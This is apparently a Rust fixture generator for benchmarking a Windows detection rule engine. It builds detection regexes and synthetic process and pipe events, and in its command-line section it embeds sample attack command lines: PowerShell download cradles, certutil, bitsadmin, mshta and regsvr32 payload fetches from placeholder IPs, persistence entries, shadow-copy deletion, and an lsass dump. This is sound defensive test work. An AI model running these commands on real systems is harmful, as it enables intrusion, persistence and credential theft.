//! Realistic content and events for the benchmarks (and for anyone who wants
//! big fixtures). Deterministic: a fixed xorshift seed, no `rand` dependency.

use changuard_format::build::{
    BuildOptions, ChannelSpec, CriterionSpec, InstanceSpec, SigningKey, build_with,
};
use changuard_format::schema::{NAMED_PIPE_CREATE, PROCESS_CREATE, TemplateType};
use changuard_format::{
    Action, AlignedBytes, SCHEMA_ID, StrOp, Trust, TrustedKey, ValidChannel, validate,
};
use changuard_interp::{Event, Value};

pub mod sigma;

/// Instances per channel file: keeps each file under the format's DFA caps.
pub const PER_CHANNEL: usize = 500;

/// Tiny deterministic PRNG.
#[derive(Debug, Clone)]
pub struct Rng(u64);
impl Rng {
    /// Seeded generator.
    pub fn new(seed: u64) -> Rng {
        Rng(seed | 1)
    }
    /// Next value.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    /// Uniform in `0..n`.
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
    /// Pick one.
    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
}

const WORDS: &[&str] = &[
    "update", "helper", "sync", "agent", "svc", "loader", "drop", "stage", "beacon", "relay",
    "tool", "patch", "host", "setup", "dump", "scan", "proxy", "shell", "task", "cache",
];

fn word(r: &mut Rng, k: usize) -> String {
    format!("{}{}", r.pick(WORDS), k)
}

fn any(t: &TemplateType) -> Vec<CriterionSpec> {
    vec![CriterionSpec::Any; t.input_count()]
}

fn set(t: &TemplateType, c: &mut [CriterionSpec], name: &str, v: CriterionSpec) {
    c[t.field_index(name).expect("field")] = v;
}

fn st(op: StrOp, v: impl Into<String>) -> CriterionSpec {
    CriterionSpec::Str {
        op,
        value: v.into(),
        case_insensitive: true,
    }
}

fn re(p: impl Into<String>) -> CriterionSpec {
    CriterionSpec::Regex {
        pattern: p.into(),
        case_insensitive: true,
    }
}

/// `n` realistic instances (70% ProcessCreate, 30% NamedPipeCreate) spread
/// over channels of [`PER_CHANNEL`]. With `regex`, about 10% of the non-`Any`
/// criteria are regexes: most refine a literal anchor (as real detections
/// do), and 1% of instances are regex-only.
pub fn mixed_specs(n: usize, regex: bool) -> Vec<ChannelSpec> {
    let mut r = Rng::new(0x5eed_0000 ^ n as u64);
    let pc = &PROCESS_CREATE;
    let np = &NAMED_PIPE_CREATE;
    let mut insts = Vec::with_capacity(n);
    for k in 0..n {
        let w = word(&mut r, k);
        let roll = r.below(100);
        let (t, c) = if r.below(10) < 7 {
            let mut c = any(pc);
            match (roll, regex) {
                (0, true) => set(
                    pc,
                    &mut c,
                    "command_line",
                    re(format!(r"-{w}\s+[a-z0-9+/=]{{16,}}")),
                ),
                (1..=18, true) => {
                    set(
                        pc,
                        &mut c,
                        "image_path",
                        st(StrOp::Suffix, format!("\\{w}.exe")),
                    );
                    set(
                        pc,
                        &mut c,
                        "command_line",
                        re(format!(r"\s/{w}:[0-9]{{2,5}}(\s|$)")),
                    );
                }
                (0..=24, _) => {
                    set(
                        pc,
                        &mut c,
                        "image_path",
                        st(StrOp::Suffix, format!("\\{w}.exe")),
                    );
                    set(
                        pc,
                        &mut c,
                        "command_line",
                        st(StrOp::Contains, format!("--{w}")),
                    );
                }
                (25..=44, _) => {
                    set(
                        pc,
                        &mut c,
                        "image_path",
                        st(StrOp::Equals, format!("c:\\program files\\{w}\\{w}.exe")),
                    );
                    set(
                        pc,
                        &mut c,
                        "integrity_level",
                        CriterionSpec::IntRange {
                            lo: 0x2000,
                            hi: 0x3000,
                        },
                    );
                }
                (45..=59, _) => {
                    set(
                        pc,
                        &mut c,
                        "command_line",
                        st(StrOp::Contains, format!("{:08x}", r.next_u64() as u32)),
                    );
                }
                (60..=74, _) => {
                    set(
                        pc,
                        &mut c,
                        "parent_image_path",
                        st(StrOp::Suffix, format!("\\{w}.exe")),
                    );
                    set(pc, &mut c, "image_path", st(StrOp::Suffix, "\\cmd.exe"));
                    set(
                        pc,
                        &mut c,
                        "session_id",
                        CriterionSpec::IntRange {
                            lo: 1,
                            hi: u32::MAX as u64,
                        },
                    );
                }
                (75..=89, _) => {
                    set(
                        pc,
                        &mut c,
                        "image_path",
                        st(StrOp::Prefix, format!("c:\\users\\public\\{w}")),
                    );
                    set(pc, &mut c, "token_elevated", CriterionSpec::IntEquals(1));
                }
                _ => {
                    set(
                        pc,
                        &mut c,
                        "user_sid",
                        st(
                            StrOp::Equals,
                            format!("s-1-5-21-1004336348-1177238915-682003330-{}", 1000 + k),
                        ),
                    );
                    set(
                        pc,
                        &mut c,
                        "command_line",
                        st(StrOp::Contains, format!(" -{w} ")),
                    );
                }
            }
            (pc, c)
        } else {
            let mut c = any(np);
            match (roll, regex) {
                (0, true) => set(
                    np,
                    &mut c,
                    "pipe_name",
                    re(format!(r"\\{w}_[0-9a-f]{{2,4}}$")),
                ),
                (1..=18, true) => {
                    set(
                        np,
                        &mut c,
                        "pipe_name",
                        st(StrOp::Prefix, format!("\\device\\namedpipe\\{w}")),
                    );
                    set(
                        np,
                        &mut c,
                        "creating_image_path",
                        re(format!(r"\\{w}[0-9]*\.exe$")),
                    );
                }
                (0..=39, _) => {
                    set(
                        np,
                        &mut c,
                        "pipe_name",
                        st(StrOp::Equals, format!("\\device\\namedpipe\\{w}")),
                    );
                }
                (40..=69, _) => {
                    set(
                        np,
                        &mut c,
                        "pipe_name",
                        st(StrOp::Contains, format!("{w}-")),
                    );
                    set(np, &mut c, "is_remote", CriterionSpec::IntEquals(1));
                }
                _ => {
                    set(
                        np,
                        &mut c,
                        "creating_image_path",
                        st(StrOp::Suffix, format!("\\{w}.exe")),
                    );
                    set(
                        np,
                        &mut c,
                        "desired_access",
                        CriterionSpec::IntMask { mask: 2, value: 2 },
                    );
                }
            }
            (np, c)
        };
        let action = if k % 5 == 0 {
            Action::BlockCandidate
        } else {
            Action::Report
        };
        insts.push(InstanceSpec {
            also: Vec::new(),
            unless: Vec::new(),
            metadata: Default::default(),
            id: k as u32 + 1,
            template: t.id,
            action,
            criteria: c,
        });
    }
    chunk(insts)
}

/// `n` regex-only instances per string field kind: NamedPipeCreate pipe-name
/// patterns (the Cobalt-Strike style `prefix_[0-9a-f]{2,4}$` family and
/// friends), all on `pipe_name`. Returns the specs and the pattern strings.
pub fn regex_only_specs(n: usize) -> (Vec<ChannelSpec>, Vec<String>) {
    let mut r = Rng::new(0xdead_beef ^ n as u64);
    let mut pats = Vec::with_capacity(n);
    for k in 0..n {
        let w = word(&mut r, k);
        let p = match k % 4 {
            0 => format!(r"\\{w}_[0-9a-f]{{2,4}}$"),
            1 => format!(r"\\{w}-[0-9]{{1,5}}-(server|client)$"),
            2 => format!(r"\\(ipc|rpc)_{w}_[a-z]{{3}}"),
            _ => format!(r"{w}\.[0-9]+\.[0-9]+"),
        };
        pats.push(p);
    }
    pipe_regex_specs(pats)
}

/// One regex-only `pipe_name` instance per pattern (in order, ids from 1),
/// chunked into channels; returns the specs and the patterns as Vectorscan
/// gets them (`(?i)`: the content's regexes are case-insensitive).
fn pipe_regex_specs(pats: Vec<String>) -> (Vec<ChannelSpec>, Vec<String>) {
    let np = &NAMED_PIPE_CREATE;
    let insts = pats
        .iter()
        .enumerate()
        .map(|(k, p)| {
            let mut c = any(np);
            set(np, &mut c, "pipe_name", re(p.clone()));
            InstanceSpec {
                also: Vec::new(),
                unless: Vec::new(),
                metadata: Default::default(),
                id: k as u32 + 1,
                template: np.id,
                action: Action::Report,
                criteria: c,
            }
        })
        .collect();
    let pats = pats.into_iter().map(|p| format!("(?i){p}")).collect();
    (chunk(insts), pats)
}

fn chunk(insts: Vec<InstanceSpec>) -> Vec<ChannelSpec> {
    chunk_by(insts, PER_CHANNEL)
}

fn chunk_by(insts: Vec<InstanceSpec>, per: usize) -> Vec<ChannelSpec> {
    insts
        .chunks(per)
        .enumerate()
        .map(|(c, part)| ChannelSpec {
            channel: 1000 + c as u32,
            version: 1,
            schema_id: SCHEMA_ID,
            instances: part.to_vec(),
        })
        .collect()
}

/// The benchmark signing key.
pub fn key() -> SigningKey {
    SigningKey::from_seed([9u8; 32])
}

/// Build every spec into an aligned, signed file, regexes in groups (as
/// `changuard build` writes them).
pub fn build_all(specs: &[ChannelSpec]) -> Vec<AlignedBytes> {
    build_all_with(specs, &GROUPED)
}

/// The writer options `changuard build` uses: regex groups on.
pub const GROUPED: BuildOptions = BuildOptions {
    group_regexes: true,
};

/// [`build_all`] with explicit writer options (`BuildOptions::default()`:
/// one DFA per regex, the layout before regex groups).
pub fn build_all_with(specs: &[ChannelSpec], options: &BuildOptions) -> Vec<AlignedBytes> {
    let k = key();
    specs
        .iter()
        .map(|s| AlignedBytes::from_slice(&build_with(s, &k, options).expect("build")))
        .collect()
}

/// Validate every file (panics on rejection: benchmark fixtures are valid).
pub fn validate_all<'a>(
    bufs: &'a [AlignedBytes],
    specs: &[ChannelSpec],
    tk: &TrustedKey,
) -> Vec<ValidChannel<&'a [u8]>> {
    let keys = [*tk];
    let trust = Trust::new(&keys);
    bufs.iter()
        .zip(specs)
        .map(|(b, s)| validate(b.as_ref(), &trust, s.channel).expect("validate"))
        .collect()
}

/// Owned event data; [`OwnedEvent::event`] borrows it as an [`Event`].
#[derive(Debug, Clone)]
pub struct OwnedEvent {
    /// Template id.
    pub template: u16,
    /// Strings of the string fields, in field order.
    pub strs: Vec<String>,
    /// Integers of the int fields, in field order.
    pub ints: Vec<u64>,
}

impl OwnedEvent {
    /// The event view (built on every call: a small allocation).
    pub fn event(&self) -> Event<'_> {
        Event::from_values(self.template, &self.values()).expect("shape")
    }

    /// The field values in schema order, for an event view built once
    /// ([`Event::from_values`] with `self.template`), as the driver's sensor
    /// builds one per kernel callback without allocating.
    pub fn values(&self) -> Vec<Value<'_>> {
        let t = if self.template == PROCESS_CREATE.id {
            &PROCESS_CREATE
        } else {
            &NAMED_PIPE_CREATE
        };
        let (mut s, mut i) = (self.strs.iter(), self.ints.iter());
        t.fields
            .iter()
            .map(|f| match f.ty {
                changuard_format::FieldType::Str => Value::Str(s.next().map_or("", String::as_str)),
                changuard_format::FieldType::Int => Value::Int(i.next().copied().unwrap_or(0)),
            })
            .collect()
    }
}

const IMAGES: &[&str] = &[
    r"C:\Windows\System32\svchost.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Users\Олег\AppData\Local\Temp\счет_2024.exe",
    r"C:\Program Files (x86)\Steam\steamapps\common\game\bin\win64\game.exe",
];

/// `n` process events: benign-looking, with a few built from content words
/// so that some anchors fire and some instances match.
pub fn process_events(n: usize) -> Vec<OwnedEvent> {
    let mut r = Rng::new(42);
    (0..n)
        .map(|k| {
            let image = if k % 8 == 0 {
                format!(r"C:\Users\Public\{}\{}.exe", word(&mut r, k), word(&mut r, k))
            } else {
                r.pick(IMAGES).to_string()
            };
            let cmd = format!(
                r#""{image}" --type=renderer --field-trial-handle={},{} --lang=en-US --{} /{}:{} {}"#,
                r.next_u64() % 100_000,
                r.next_u64(),
                { let k = (r.next_u64() % 200) as usize; word(&mut r, k) },
                { let k = (r.next_u64() % 200) as usize; word(&mut r, k) },
                r.next_u64() % 9999,
                if k % 3 == 0 { "-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" } else { "" }
            );
            OwnedEvent {
                template: PROCESS_CREATE.id,
                strs: vec![
                    image,
                    cmd,
                    r.pick(IMAGES).to_string(),
                    format!("S-1-5-21-1004336348-1177238915-682003330-{}", 1000 + r.below(300)),
                ],
                ints: vec![4000 + r.below(4000), 600 + r.below(400), 600, r.below(3), 0x2000, r.below(2)],
            }
        })
        .collect()
}

/// `n` pipe events.
pub fn pipe_events(n: usize) -> Vec<OwnedEvent> {
    let mut r = Rng::new(7);
    (0..n)
        .map(|k| {
            let pipe = match k % 4 {
                0 => format!(
                    r"\Device\NamedPipe\mojo.{}.{}.{}",
                    r.below(9000),
                    r.below(9000),
                    r.next_u64()
                ),
                1 => {
                    let k = (r.next_u64() % 300) as usize;
                    format!(
                        r"\Device\NamedPipe\{}_{:x}",
                        word(&mut r, k),
                        r.below(0xfff)
                    )
                }
                2 => r"\Device\NamedPipe\lsarpc".to_string(),
                _ => format!(
                    r"\Device\NamedPipe\crashpad_{}_{}",
                    r.below(9000),
                    r.next_u64() % 100_000
                ),
            };
            OwnedEvent {
                template: NAMED_PIPE_CREATE.id,
                strs: vec![
                    pipe,
                    r.pick(IMAGES).to_string(),
                    r.pick(IMAGES).to_string(),
                    String::new(),
                    "S-1-5-18".into(),
                    "S-1-5-18".into(),
                ],
                ints: vec![
                    4000,
                    0,
                    1,
                    1,
                    0x0012019f,
                    3,
                    3,
                    0,
                    255,
                    4096,
                    4096,
                    50,
                    0x2000,
                    r.below(2),
                ],
            }
        })
        .collect()
}

/// Serialized size of every DFA in `chans` and their count.
pub fn dfa_bytes(chans: &[ValidChannel<&[u8]>]) -> (usize, usize) {
    let mut total = 0;
    let mut n = 0;
    for c in chans {
        for d in 0..c.dfa_count() {
            // A regex group's DFA is stored once, with its first member.
            let shared = c.dfa_group(d).flatten().is_some_and(|g| g.pattern > 0);
            if !shared {
                total += c.dfa_bytes(d).map_or(0, <[u8]>::len);
            }
            n += 1;
        }
    }
    (total, n)
}

/// Make every `every`-th event satisfy one (non-regex) instance of `specs` of
/// its template type, so that benchmarks see real detections.
pub fn inject_hits(events: &mut [OwnedEvent], specs: &[ChannelSpec], every: usize) {
    let candidates: Vec<&InstanceSpec> = specs
        .iter()
        .flat_map(|s| s.instances.iter())
        .filter(|i| {
            !i.criteria
                .iter()
                .any(|c| matches!(c, CriterionSpec::Regex { .. }))
        })
        .collect();
    let mut r = Rng::new(99);
    for (k, e) in events.iter_mut().enumerate() {
        if k % every != 0 {
            continue;
        }
        let mine: Vec<&&InstanceSpec> = candidates
            .iter()
            .filter(|i| i.template == e.template)
            .collect();
        if mine.is_empty() {
            continue;
        }
        let inst = r.pick(&mine);
        let t = if e.template == PROCESS_CREATE.id {
            &PROCESS_CREATE
        } else {
            &NAMED_PIPE_CREATE
        };
        let (mut si, mut ii) = (0, 0);
        for (f, c) in t.fields.iter().zip(&inst.criteria) {
            match (f.ty, c) {
                (changuard_format::FieldType::Str, CriterionSpec::Str { op, value, .. }) => {
                    e.strs[si] = match op {
                        StrOp::Equals => value.clone(),
                        StrOp::Prefix => format!("{value}\\x.EXE"),
                        StrOp::Suffix => format!("C:\\Some Dir\\{value}"),
                        StrOp::Contains => format!("{} {value} --verbose", e.strs[si]),
                    };
                }
                (_, CriterionSpec::IntEquals(v)) => e.ints[ii] = *v,
                (_, CriterionSpec::IntRange { lo, .. }) => e.ints[ii] = *lo,
                (_, CriterionSpec::IntMask { value, .. }) => e.ints[ii] = *value,
                _ => {}
            }
            match f.ty {
                changuard_format::FieldType::Str => si += 1,
                changuard_format::FieldType::Int => ii += 1,
            }
        }
    }
}

fn re_cs(p: impl Into<String>) -> CriterionSpec {
    CriterionSpec::Regex {
        pattern: p.into(),
        case_insensitive: false,
    }
}

/// Families of regex-only command-line patterns in
/// [`regex_only_command_line_specs`].
pub const CMDLINE_FAMILIES: usize = 16;

/// The variation word of command-line pattern `k` (independent of the set
/// size, so events built for small `k` match at every size).
pub fn cmdline_word(k: usize) -> String {
    format!("{}{}", WORDS[(k * 7 + 3) % WORDS.len()], k)
}

/// Standard base64 (with padding) of `b`.
pub fn base64(b: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::with_capacity(b.len().div_ceil(3) * 4);
    for c in b.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for j in 0..4 {
            if j <= c.len() {
                s.push(A[(n >> (18 - 6 * j)) as usize & 63] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

/// Base64 of `s` as UTF-16LE (what `powershell -EncodedCommand` takes).
pub fn ps_encode(s: &str) -> String {
    let b: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64(&b)
}

/// The stable base64 prefix of any encoded command starting with `w`: the
/// complete 4-character groups of `ps_encode(w)` (no padding).
fn ps_prefix(w: &str) -> String {
    let n = w.encode_utf16().count() * 2 / 3 * 4;
    ps_encode(w)[..n].to_string()
}

/// Pattern `k` of the command-line set: `(pattern, case_insensitive)`.
/// Families (`k % 16`), each varied by a word or a bound so every pattern is
/// distinct; 11 of 16 case-insensitive; families 1 and 14 have no required
/// literal at all (always list), family 13 only the weak `http` shared by the
/// whole family, several case-insensitive ones are cut by `s`/`k` (Unicode
/// folding) down to their variation word.
pub fn cmdline_pattern(k: usize) -> (String, bool) {
    let (p, ci) = cmdline_pattern_unicode_ws(k);
    // ASCII whitespace: Unicode `\s` (U+0085, U+00A0, U+2000.., U+3000)
    // multiplies the DFA states of every `.*`-bearing pattern past the
    // format's per-file DFA cap; Vectorscan's `\s` (no UCP) is ASCII too.
    (ascii_ws(&p), ci)
}

/// `\s` -> `[ \t]` (inside a class: ` \t`); other escapes unchanged.
fn ascii_ws(p: &str) -> String {
    let mut out = String::with_capacity(p.len() + 16);
    let (mut chars, mut in_class) = (p.chars(), false);
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('s') if in_class => out.push_str(" \\t"),
                Some('s') => out.push_str("[ \\t]"),
                Some(d) => {
                    out.push('\\');
                    out.push(d);
                }
                None => out.push('\\'),
            },
            '[' => {
                in_class = true;
                out.push(c);
            }
            ']' => {
                in_class = false;
                out.push(c);
            }
            _ => out.push(c),
        }
    }
    out
}

/// Command-line patterns per channel file: their DFAs average ≈ 100 KB
/// (Unicode `.` after a case-insensitive prefix), so 50 stay well under the
/// format's 8 MB of DFAs per file.
pub const CMDLINE_PER_CHANNEL: usize = 50;

fn cmdline_pattern_unicode_ws(k: usize) -> (String, bool) {
    let w = cmdline_word(k);
    let i = k / CMDLINE_FAMILIES;
    match k % CMDLINE_FAMILIES {
        0 => (
            format!(
                r"powershell(\.exe)?\s.*\s-e(nc|ncodedcommand)?\s+{}[A-Za-z0-9+/=]{{20,}}",
                ps_prefix(&format!("iex {w}"))
            ),
            true,
        ),
        1 => (
            format!(
                r#"\s[-/][eE][a-zA-Z]*\s+(SQBFAFgA|aQBlAHgA|SQBuAHYAbwBrAGUA|UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwA)[A-Za-z0-9+/]{{{},}}={{0,2}}(\s|"|$)"#,
                20 + i
            ),
            false,
        ),
        2 => (
            format!(r"certutil(\.exe)?\s.*-urlcache\s.*https?://[^\s/]+/[^\s]*{w}"),
            true,
        ),
        3 => (
            format!(r"rundll32(\.exe)?\s+[^,]*\\{w}\.dll,\s*#?[0-9]+"),
            true,
        ),
        4 => (
            format!(r#"reg(\.exe)?\s+add\s+.*\\currentversion\\run(once)?\s.*/v\s+"?{w}"#),
            true,
        ),
        5 => (
            format!(r#"schtasks(\.exe)?\s+/create\s.*/tn\s+"?[^"]*{w}.*/tr\s"#),
            true,
        ),
        6 => (
            format!(r"vssadmin(\.exe)?\s+delete\s+shadows\s+/all\s+/quiet.*{w}"),
            true,
        ),
        7 => (
            format!(r"wmic(\.exe)?\s.*process\s+call\s+create\s+.*{w}"),
            true,
        ),
        8 => (
            format!(r"bitsadmin(\.exe)?\s+/transfer\s+{w}\s.*https?://"),
            false,
        ),
        9 => (
            format!(r#"mshta(\.exe)?\s+"?(https?|javascript|vbscript):.*{w}"#),
            false,
        ),
        10 => (
            format!(r"net1?(\.exe)?\s+(user|localgroup\s+administrators)\s+{w}\s.*/add"),
            true,
        ),
        11 => (
            format!(r"\\appdata\\(local|roaming)\\temp\\{w}\.(exe|ps1|bat|vbs)"),
            true,
        ),
        12 => (
            format!(r"regsvr32(\.exe)?\s+/s\s+/n\s+/u\s+/i:https?://[^\s]*{w}"),
            false,
        ),
        13 => {
            let lo = 1 + i % 16;
            let hi = lo + 1 + i / 16;
            (
                format!(
                    r#"(iwr|irm|curl|wget)(\.exe)?\s.*https?://[0-9]{{1,3}}(\.[0-9]{{1,3}}){{3}}(:[0-9]+)?/[a-z0-9_-]{{{lo},{hi}}}\.(ps1|exe|hta)(\s|"|$)"#
                ),
                true,
            )
        }
        14 => (
            format!(
                r"\s-w(indowstyle)?\s+h(idden)?\s+-(nop|noprofile)\s+-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{{{},}}",
                40 + i
            ),
            true,
        ),
        _ => (
            format!(r"procdump(64)?(\.exe)?\s.*-ma\s+(lsass(\.exe)?|[0-9]+)\s+.*{w}\.dmp"),
            false,
        ),
    }
}

/// A command line (fragment) that matches pattern `k` of
/// [`cmdline_pattern`] (and typically few others).
pub fn cmdline_ioc(k: usize) -> String {
    let w = cmdline_word(k);
    let i = k / CMDLINE_FAMILIES;
    match k % CMDLINE_FAMILIES {
        0 => format!(
            "powershell.exe -NoProfile -enc {}",
            ps_encode(&format!(
                "iex {w} (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"
            ))
        ),
        1 => format!(
            "-e {}",
            ps_encode(&"Start-Process calc; ".repeat((20 + i).div_ceil(40) + 1))
        ),
        2 => format!(
            r"certutil.exe -urlcache -split -f http://203.0.113.7/dl/{w}.exe C:\Users\Public\{w}.exe"
        ),
        3 => format!(r"rundll32.exe C:\ProgramData\{w}.dll,#1"),
        4 => format!(
            r#"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {w} /t REG_SZ /d "C:\Users\Public\{w}.exe" /f"#
        ),
        5 => format!(
            r#"schtasks /create /sc minute /mo 30 /tn "\Microsoft\{w}" /tr "C:\Users\Public\{w}.exe" /f"#
        ),
        6 => format!("cmd.exe /c vssadmin delete shadows /all /quiet & {w}.exe --lock"),
        7 => format!(r#"wmic /node:10.0.0.5 process call create "C:\Windows\Temp\{w}.exe""#),
        8 => format!(
            r"bitsadmin /transfer {w} /download /priority high http://198.51.100.9/{w}.bin C:\Temp\{w}.bin"
        ),
        9 => format!("mshta.exe http://198.51.100.23/{w}.hta"),
        10 => format!("net user {w} P@ssw0rd! /add"),
        11 => format!(r"C:\Users\Олег\AppData\Local\Temp\{w}.exe"),
        12 => format!("regsvr32 /s /n /u /i:http://203.0.113.50/{w}.sct scrobj.dll"),
        13 => format!(
            "curl.exe -s http://192.0.2.44:8080/{}.ps1 -o a.ps1",
            "p".repeat(1 + i % 16)
        ),
        14 => format!(
            "-w hidden -nop -enc {}",
            "SQBFAFgA".repeat((40 + i).div_ceil(8) + 1)
        ),
        _ => format!(r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{w}.dmp"),
    }
}

/// `n` regex-only ProcessCreate instances, all on `command_line`
/// ([`cmdline_pattern`]). Returns the specs and the pattern strings
/// (`(?i)`-prefixed when case-insensitive).
pub fn regex_only_command_line_specs(n: usize) -> (Vec<ChannelSpec>, Vec<String>) {
    let pc = &PROCESS_CREATE;
    let mut pats = Vec::with_capacity(n);
    let mut insts = Vec::with_capacity(n);
    for k in 0..n {
        let (p, ci) = cmdline_pattern(k);
        let mut c = any(pc);
        set(
            pc,
            &mut c,
            "command_line",
            if ci { re(p.clone()) } else { re_cs(p.clone()) },
        );
        pats.push(if ci { format!("(?i){p}") } else { p });
        insts.push(InstanceSpec {
            also: Vec::new(),
            unless: Vec::new(),
            metadata: Default::default(),
            id: k as u32 + 1,
            template: pc.id,
            action: Action::Report,
            criteria: c,
        });
    }
    (chunk_by(insts, CMDLINE_PER_CHANNEL), pats)
}

const FEATURES: &[&str] = &[
    "AutofillServerCommunication",
    "BackForwardCache",
    "CalculateNativeWinOcclusion",
    "DocumentPictureInPictureAPI",
    "EnableTLS13EarlyData",
    "HardwareMediaKeyHandling",
    "LensOverlay",
    "MediaSessionService",
    "PartitionedCookies",
    "SpareRendererForSitePerProcess",
    "ThirdPartyStoragePartitioning",
    "WebRtcHideLocalIpsWithMdns",
];

/// `n` long, realistic ProcessCreate events for the command-line set
/// (≈300–3,000-byte command lines: browser renderers with feature lists,
/// PowerShell with base64 blobs, Java class paths, Office and installers
/// with Cyrillic paths). Every 4th event also carries one IOC command line
/// ([`cmdline_ioc`] of a pattern `k < 100`, so it matches at every size).
pub fn cmdline_events(n: usize) -> Vec<OwnedEvent> {
    let mut r = Rng::new(4242);
    (0..n)
        .map(|k| {
            let image = r.pick(IMAGES).to_string();
            let mut cmd = match k % 6 {
                0 => {
                    let mut f = String::new();
                    for _ in 0..(4 + r.below(20)) {
                        let feat: &&str = r.pick(FEATURES);
                        f.push_str(feat);
                        f.push(',');
                    }
                    format!(
                        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --string-annotations --video-capture-use-gpu-memory-buffer --lang=ru --device-scale-factor=1.25 --num-raster-threads=2 --enable-main-frame-before-activation --renderer-client-id={} --time-ticks-at-unix-epoch=-{} --launch-time-ticks={} --enable-features={f} --disable-features=Translate --field-trial-handle={},i,{},{},262144 --variations-seed-version=20241120-010203.456000 /prefetch:1"#,
                        r.below(400),
                        r.next_u64() % 10_000_000_000_000,
                        r.next_u64() % 100_000_000_000,
                        r.below(9000),
                        r.next_u64(),
                        r.next_u64()
                    )
                }
                1 => {
                    let script = format!(
                        "$ErrorActionPreference='Stop'; $p = Join-Path $env:ProgramData 'Contoso\\Agent'; Get-ChildItem -Path $p -Filter *.log | Where-Object {{ $_.LastWriteTime -lt (Get-Date).AddDays(-{}) }} | Remove-Item -Force; Write-Output 'очистка завершена'",
                        r.below(30)
                    );
                    let script = script.repeat(1 + r.below(2) as usize);
                    format!(
                        r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {}"#,
                        ps_encode(&script)
                    )
                }
                2 => {
                    let mut cp = String::new();
                    for j in 0..(10 + r.below(30)) {
                        cp.push_str(&format!(
                            r"C:\Users\Олег\.m2\repository\org\{}\{}-core\{}.{}.{}\{}-core-{}.{}.{}.jar;",
                            r.pick(WORDS),
                            r.pick(WORDS),
                            j % 7,
                            r.below(20),
                            r.below(10),
                            r.pick(WORDS),
                            j % 7,
                            r.below(20),
                            r.below(10)
                        ));
                    }
                    format!(
                        r#""C:\Program Files\Eclipse Adoptium\jdk-21.0.5.11-hotspot\bin\java.exe" -Xms256m -Xmx{}m -Dfile.encoding=UTF-8 -Duser.language=ru -cp "{cp}" com.contoso.service.Main --config "C:\ProgramData\Contoso\service.yaml""#,
                        512 * (1 + r.below(8))
                    )
                }
                3 => format!(
                    r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\Олег\Documents\Отчёт за {} квартал — финальная версия ({}).docx" /o "" /dde /automation -Embedding -ServerName:Word.Application.{} --profile-dir="C:\Users\Олег\AppData\Roaming\Microsoft\Word\STARTUP""#,
                    1 + r.below(4),
                    r.below(100),
                    r.next_u64() % 100_000
                ),
                4 => format!(
                    r#""C:\Windows\System32\msiexec.exe" /i "C:\Users\Олег\Downloads\установка_агента_{}.msi" /qn /norestart /l*v "C:\Windows\Temp\msi_{:08x}.log" TRANSFORMS="C:\Users\Олег\Downloads\ru-RU.mst" INSTALLDIR="C:\Program Files\Contoso Agent" SERVERURL="https://updates.contoso.example/agent/v{}/" ALLUSERS=1 REBOOT=ReallySuppress"#,
                    r.below(1000),
                    r.next_u64() as u32,
                    r.below(20)
                ),
                _ => format!(
                    r#""C:\Users\Олег\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=ru --service-sandbox-type=none --user-data-dir="C:\Users\Олег\AppData\Roaming\Code" --standard-schemes=vscode-webview,vscode-file --secure-schemes=vscode-webview,vscode-file --cors-schemes=vscode-webview,vscode-file --fetch-schemes=vscode-webview,vscode-file --code-cache-schemes=vscode-webview,vscode-file --mojo-platform-channel-handle={} --field-trial-handle={},i,{},{},262144 /prefetch:8 https://marketplace.visualstudio.com/items?itemName=contoso.ext{}"#,
                    r.below(5000),
                    r.below(9000),
                    r.next_u64(),
                    r.next_u64(),
                    r.below(100)
                ),
            };
            if k % 4 == 3 {
                // One IOC per such event; spread over the families.
                let ioc = cmdline_ioc((k * 5 + k / 16) % 100);
                cmd = format!(r"C:\Windows\System32\cmd.exe /c {ioc} & {cmd}");
            }
            OwnedEvent {
                template: PROCESS_CREATE.id,
                strs: vec![
                    image,
                    cmd,
                    r.pick(IMAGES).to_string(),
                    format!("S-1-5-21-1004336348-1177238915-682003330-{}", 1000 + r.below(300)),
                ],
                ints: vec![4000 + r.below(4000), 600 + r.below(400), 600, r.below(3), 0x2000, r.below(2)],
            }
        })
        .collect()
}

/// The dearest content of one shape that still fits the per-file cost
/// ceiling (issue 12): ProcessCreate instances whose only criterion is on the
/// command line, added while the proven bound stays within
/// `changuard_format::cost::TEMPLATE_CEILING`. `regex`: distinct unindexable
/// patterns (`[0-9a-X]{r}$`, no required literal: every one scans the field);
/// else distinct `contains` needles (every gram present in [`ceiling_event`]).
pub fn ceiling_spec(regex: bool) -> ChannelSpec {
    ceiling_spec_of(regex, false)
}

/// [`ceiling_spec`]'s regexes, each after an integer range that every value
/// matches (`0..=u64::MAX` on `pid`). Evaluation checks the range first, so
/// the regex is not the instance's first criterion and its scan runs alone,
